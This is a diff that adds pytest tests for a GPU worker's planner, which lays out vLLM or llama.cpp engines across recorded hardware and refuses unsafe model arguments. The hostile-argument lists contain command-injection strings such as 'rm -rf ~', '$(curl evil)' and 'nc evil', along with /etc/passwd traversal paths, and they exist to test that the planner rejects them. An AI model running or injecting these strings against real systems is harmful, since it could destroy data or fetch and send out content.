@@ -1,0 +1,256 @@
+from __future__ import annotations
+
+from dataclasses import replace
+from typing import Any
+
+import pytest
+
+from tests.worker.hardware.recorded import replay
+from worker import protocol
+from worker.config import Settings
+from worker.hardware import EngineInstall, GpuGroup, Machine
+from worker.plan import EnginePlan, Plan, Refusal, plan
+
+BASE = ["--max-model-len", "32768", "--enforce-eager"]
+TIER_24 = ["--no-enforce-eager", "--max-num-seqs", "128"]
+TIER_40 = ["--no-enforce-eager", "--max-num-seqs", "128", "--max-model-len", "65536"]
+APP_OWNED_TAIL = ["--host", "127.0.0.1", "--port"]
+
+
+def assign(weights_mib: int = 17800, *, vllm: dict[str, Any] | None = None, llamacpp: dict[str, Any] | None = None,
+           engines: tuple[str, ...] = ("vllm", "llamacpp")) -> protocol.Assign:
+    """The protocol's example assignment, with the weights (and any field) changed per case."""
+    model: dict[str, Any] = {"name": "qwen3.8-27b"}
+    if "vllm" in engines:
+        model["vllm"] = {
+            "source": "org/Qwen3.8-27B-W4A16", "revision": "main", "engine_version": "0.33.0",
+            "weights_mib": weights_mib, "base_args": BASE, "tiers": {"24000": TIER_24, "40000": TIER_40},
+        } | (vllm or {})
+    if "llamacpp" in engines:
+        model["llamacpp"] = {
+            "source": "https://example.org/qwen3.8-27b-Q4_K_M.gguf", "weights_mib": weights_mib,
+            "base_args": ["--ctx-size", "32768"], "tiers": {"40000": ["--ctx-size", "65536"]},
+        } | (llamacpp or {})
+    return protocol.Assign(assignment_id="a-17", model=model)
+
+
+def layout_of(result: Plan | Refusal) -> list[tuple[tuple[int, ...], str, int, str | None]]:
+    assert isinstance(result, Plan), result
+    return [(e.gpu_indices, e.layout, e.memory_mib, e.tier) for e in result.engines]
+
+
+# (fixture, weights MiB, expected engines as (gpus, layout, memory judged by, tier))
+LAYOUTS = [
+    ("rtx4090x2-no-p2p.json", 17800, [((0, 1), "tensor", 41200, "40000")]),
+    ("rtx4090x2-no-p2p.json", 6200, [((0,), "replica", 20600, None), ((1,), "replica", 20600, None)]),
+    ("rtx4090x2-no-p2p.json", 30000, [((0, 1), "tensor", 41200, "40000")]),
+    ("rtx5090.json", 17800, [((0,), "single", 27715, "24000")]),
+    ("rtx4090.json", 17800, [((0,), "single", 20600, None)]),
+    ("rtx4090-rtx3060.json", 17800, [((0,), "single", 20600, None)]),
+    ("rtx4090-rtx3060.json", 6200, [((0,), "replica", 20600, None), ((1,), "replica", 10136, None)]),
+    ("h100x8-nvlink.json", 17800, [((i,), "replica", 72391, "40000") for i in range(8)]),
+    ("h100x8-nvlink.json", 40000, [((i,), "replica", 72391, "40000") for i in range(8)]),
+    ("h100x8-nvlink.json", 140000, [((0, 1, 2, 3), "tensor", 289564, "40000"), ((4, 5, 6, 7), "tensor", 289564, "40000")]),
+    ("h100x8-nvlink.json", 100000, [((0, 1), "tensor", 144782, "40000"), ((2, 3), "tensor", 144782, "40000"),
+                                    ((4, 5), "tensor", 144782, "40000"), ((6, 7), "tensor", 144782, "40000")]),
+    ("h200.json", 17800, [((0,), "single", 128382, "40000")]),
+    ("wsl2-rtx4090.json", 17300, [((0,), "single", 19298, None)]),
+]
+
+
+@pytest.mark.parametrize(("fixture", "weights", "engines"), LAYOUTS)
+def test_layout_and_tier(fixture, weights, engines):
+    assert layout_of(plan(replay(fixture), assign(weights), Settings())) == engines
+
+
+def test_two_4090s_with_the_27b_model_run_one_tensor_parallel_engine():
+    result = plan(replay("rtx4090x2-no-p2p.json"), assign(17800), Settings())
+    assert isinstance(result, Plan) and result.engine == "vllm"
+    (engine,) = result.engines
+    assert engine.args == tuple(BASE + TIER_40)
+    assert engine.fallbacks == (("24000", tuple(BASE + TIER_24)), (None, tuple(BASE)))
+    assert engine.env == {"CUDA_VISIBLE_DEVICES": "0,1"}
+    assert engine.argv("key-1") == [
+        "vllm", "serve", "org/Qwen3.8-27B-W4A16", *BASE, *TIER_40, "--tensor-parallel-size", "2",
+        "--host", "127.0.0.1", "--port", "18100", "--api-key", "key-1", "--served-model-name", "qwen3.8-27b",
+    ]
+
+
+def test_fallback_argv_and_lowest_tier_falls_back_to_base_alone():
+    (engine,) = plan(replay("rtx5090.json"), assign(17800), Settings()).engines
+    assert engine.fallbacks == ((None, tuple(BASE)),)
+    retry = engine.argv("k", args=engine.fallbacks[0][1])
+    assert retry[3:6] == BASE and "--no-enforce-eager" not in retry
+
+
+def test_replicas_get_distinct_ports_and_their_own_gpu():
+    result = plan(replay("rtx4090-rtx3060.json"), assign(6200, vllm={"tiers": {"16000": ["--max-num-seqs", "64"]}}), Settings(), first_port=20000)
+    assert isinstance(result, Plan)
+    assert [(e.engine_id, e.port, e.env["CUDA_VISIBLE_DEVICES"], e.tier) for e in result.engines] == [
+        ("e0", 20000, "0", "16000"), ("e1", 20001, "1", None)
+    ]
+
+
+def test_plan_json_shows_the_command_with_the_key_hidden():
+    data = plan(replay("rtx4090x2-no-p2p.json"), assign(6200), Settings()).to_json()
+    assert data["engine"] == "vllm"
+    assert [set(e) for e in data["engines"]] == [{"engine_id", "gpu_indices", "layout", "memory_mib", "argv"}] * 2
+    argv = data["engines"][1]["argv"]
+    assert argv[argv.index("--api-key") + 1] == "***"
+    assert argv[argv.index("--port") + 1] == "18101"
+
+
+def test_engine_environment_comes_from_the_adapter():
+    (engine,) = plan(replay("rtx5090.json"), assign(17800), Settings()).engines
+    env = engine.environment({"GPU_PROVIDER_TOKEN": "t", "PATH": "/bin"})
+    assert env["CUDA_VISIBLE_DEVICES"] == "0" and "GPU_PROVIDER_TOKEN" not in env and env["DO_NOT_TRACK"] == "1"
+
+
+def test_apple_silicon_gets_llama_cpp_over_the_working_set():
+    result = plan(replay("m4-max-128gb.json"), assign(16500), Settings(), model_path="/cache/q.gguf")
+    assert isinstance(result, Plan) and result.engine == "llamacpp"
+    (engine,) = result.engines
+    assert (engine.gpu_indices, engine.layout, engine.memory_mib, engine.tier) == ((), "single", 98304, "40000")
+    assert engine.argv("k") == [
+        "llama-server", "-m", "/cache/q.gguf", "--ctx-size", "32768", "--ctx-size", "65536", "--host", "127.0.0.1",
+        "--port", "18100", "--api-key", "k", "--alias", "qwen3.8-27b", "--metrics",
+    ]
+
+
+def test_the_detected_engine_binary_is_used():
+    machine = replace(replay("no-gpu.json"), engines={"llamacpp": EngineInstall("b6153", "/opt/llama/llama-server")})
+    (engine,) = plan(machine, assign(6000), Settings()).engines
+    assert engine.argv("k")[0] == "/opt/llama/llama-server"
+    (explicit,) = plan(machine, assign(6000), Settings(), executable=["/x/llama-server"]).engines
+    assert explicit.argv("k")[0] == "/x/llama-server"
+
+
+def test_cpu_machine_gets_llama_cpp_over_ram():
+    result = plan(replay("no-gpu.json"), assign(16500), Settings())
+    assert layout_of(result) == [((), "single", 24105, None)]
+    assert result.engines[0].model == "qwen3.8-27b-Q4_K_M.gguf"
+
+
+def _machine(runtime: str, groups: tuple[GpuGroup, ...], **extra: Any) -> Machine:
+    return Machine(os="linux", runtime=runtime, arch="x86_64", cpu_model="cpu", cpu_cores=8, ram_mib=65536,
+                   groups=groups, effective_vram_mib=groups[0].usable_mib_total if groups else 0, **extra)
+
+
+def test_windows_runs_one_llama_cpp_engine_over_the_whole_group():
+    group = GpuGroup((0, 1), "NVIDIA GeForce RTX 4090", 20600, compute_capability="8.9")
+    result = plan(_machine("windows", (group,)), assign(30000), Settings())
+    assert layout_of(result) == [((0, 1), "tensor", 41200, "40000")]
+    assert result.engine == "llamacpp"
+
+
+def test_old_gpus_cannot_run_vllm():
+    group = GpuGroup((0,), "NVIDIA GeForce GTX 1080 Ti", 10000, compute_capability="6.1")
+    result = plan(_machine("native", (group,)), assign(6000), Settings())
+    assert isinstance(result, Refusal) and "compute capability 7.5" in result.reason
+
+
+def test_gpus_to_lend_limits_the_plan():
+    machine = replay("rtx4090x2-no-p2p.json", Settings(gpus_to_lend=(1,)))
+    assert layout_of(plan(machine, assign(17800), Settings())) == [((1,), "single", 20600, None)]
+
+
+@pytest.mark.parametrize(
+    ("fixture", "weights", "words"),
+    [
+        ("rtx4090.json", 19000, "does not fit"),
+        ("rtx4090x2-no-p2p.json", 40000, "does not fit"),
+        ("h100x8-nvlink.json", 600000, "does not fit"),
+        ("m4-max-128gb.json", 90000, "working set"),
+        ("no-gpu.json", 22000, "RAM"),
+    ],
+)
+def test_models_that_fit_nowhere_are_refused(fixture, weights, words):
+    result = plan(replay(fixture), assign(weights), Settings())
+    assert isinstance(result, Refusal) and words in result.reason and f"{weights:,} MiB" in result.reason
+
+
+def test_no_engine_for_this_runtime_is_refused():
+    result = plan(replay("m4-max-128gb.json"), assign(16500, engines=("vllm",)), Settings())
+    assert isinstance(result, Refusal)
+    assert result.reason == "model 'qwen3.8-27b' has no llamacpp build, and this machine's runtime (apple-silicon) runs only llamacpp"
+    assert result.to_json() == {"error": result.reason}
+
+
+@pytest.mark.parametrize("source", ["../etc/passwd", "http://example.org/x.gguf", "org/../x", "file:///etc/passwd"])
+def test_bad_sources_are_refused(source):
+    result = plan(replay("rtx4090.json"), assign(6000, vllm={"source": source}), Settings())
+    assert isinstance(result, Refusal)
+    assert source in result.reason
+
+
+VLLM_HOSTILE = [
+    ["--host=0.0.0.0"], ["--host", "0.0.0.0"], ["--port", "8000"], ["--port=1"], ["--api-key", "x"],
+    ["--api_key", "x"], ["--served-model-name", "other"], ["--served_model_name=other"], ["--hos", "0.0.0.0"],
+    ["-tp", "4"], ["--tensor-parallel-size=8"], ["--uds", "/tmp/s"], ["--config", "x.yaml"], ["--model", "evil/m"],
+    ["--headless"], ["--data-parallel-address", "0.0.0.0"], ["VLLM_API_KEY=x"], ["VLLM_HOST_IP=0.0.0.0"],
+    ["--trust-remote-code"], ["--trust_remote_code"], ["--trust-remote"], ["--tool-parser-plugin", "/x.py"],
+    ["--middleware", "evil.mod"], ["--worker-cls", "evil.W"], ["--speculative-config", '{"method":"custom_class"}'],
+    ["--max-model-len", "32768\n--host"], ["--max-model-len", "32768\x00"], ["--max-model-len", "1; rm -rf ~"],
+    ["--chat-template", "$(curl evil)"], ["--served", "`id`"], ["--max-num-seqs", "8 | nc evil 1"], ["--x", "a>b"],
+]
+
+
+@pytest.mark.parametrize("args", VLLM_HOSTILE)
+def test_hostile_vllm_arguments_are_refused_in_base_args_and_in_any_tier(args):
+    in_base = plan(replay("rtx4090.json"), assign(6000, vllm={"base_args": BASE + args}), Settings())
+    in_unused_tier = plan(replay("rtx4090.json"), assign(6000, vllm={"tiers": {"90000": args}}), Settings())
+    assert isinstance(in_base, Refusal) and in_base.reason.startswith("refused base_args: ")
+    assert isinstance(in_unused_tier, Refusal) and in_unused_tier.reason.startswith("refused tier 90000: ")
+
+
+LLAMA_HOSTILE = [
+    ["--host", "0.0.0.0"], ["--port", "1"], ["--api-key", "k"], ["--api-key-file", "/k"], ["-a", "other"],
+    ["--alias=other"], ["-m", "/other.gguf"], ["-hf", "evil/model"], ["--rpc", "10.0.0.1:50052"],
+    ["--fim-qwen-7b-default"], ["--path", "/"], ["LLAMA_ARG_HOST=0.0.0.0"], ["LLAMA_API_KEY=k"],
+    ["--tools", "all"], ["--agent"], ["--mcp-servers-config", "/x.json"], ["--ctx-size", "8192\n--host"],
+]
+
+
+@pytest.mark.parametrize("args", LLAMA_HOSTILE)
+def test_hostile_llama_cpp_arguments_are_refused(args):
+    result = plan(replay("m4-max-128gb.json"), assign(6000, llamacpp={"base_args": args}), Settings())
+    assert isinstance(result, Refusal), args
+
+
+@pytest.mark.parametrize(
+    "args",
+    [["--max-model-len", "-1"], ["--no-trust-remote-code"], ["--speculative-config", '{"method":"mtp","num_speculative_tokens":2}'],
+     ["--hf-overrides", '{"rope_scaling": {"factor": 2.0}}'], ["--max-model-len", "25.6k"], ["--kv-cache-dtype", "fp8"],
+     ["--reasoning-parser", "deepseek_r1"], ["--tool-call-parser", "hermes"]],
+)
+def test_ordinary_vllm_arguments_pass(args):
+    result = plan(replay("rtx4090.json"), assign(6000, vllm={"base_args": args}), Settings())
+    assert isinstance(result, Plan) and list(result.engines[0].args) == args
+
+
+def test_llama_cpp_override_tensor_is_not_mistaken_for_an_environment_variable():
+    result = plan(replay("m4-max-128gb.json"), assign(6000, llamacpp={"base_args": ["-ot", "exps=CPU", "-fa", "on"]}), Settings())
+    assert isinstance(result, Plan)
+
+
+def test_settings_can_allow_remote_code_and_app_owned_arguments():
+    code = assign(6000, vllm={"base_args": ["--trust-remote-code"]})
+    owned = assign(6000, vllm={"base_args": ["--port", "9"]})
+    assert isinstance(plan(replay("rtx4090.json"), code, Settings(allow_remote_code=True)), Plan)
+    result = plan(replay("rtx4090.json"), owned, Settings(allow_app_owned_args=True))
+    assert isinstance(result, Plan)
+    argv = result.engines[0].argv("k")
+    assert argv[-6:-4] == ["--port", "18100"]  # the app's own value comes last and wins
+
+
+def test_forbidden_flags_stay_refused_whatever_the_settings():
+    permissive = Settings(allow_remote_code=True, allow_app_owned_args=True)
+    result = plan(replay("rtx4090.json"), assign(6000, vllm={"base_args": ["--uds", "/tmp/x"]}), permissive)
+    assert isinstance(result, Refusal) and "never allowed" in result.reason
+
+
+def test_engine_plan_is_frozen():
+    (engine,) = plan(replay("rtx4090.json"), assign(6000), Settings()).engines
+    assert isinstance(engine, EnginePlan)
+    with pytest.raises(AttributeError):
+        engine.port = 1  # type: ignore[misc]
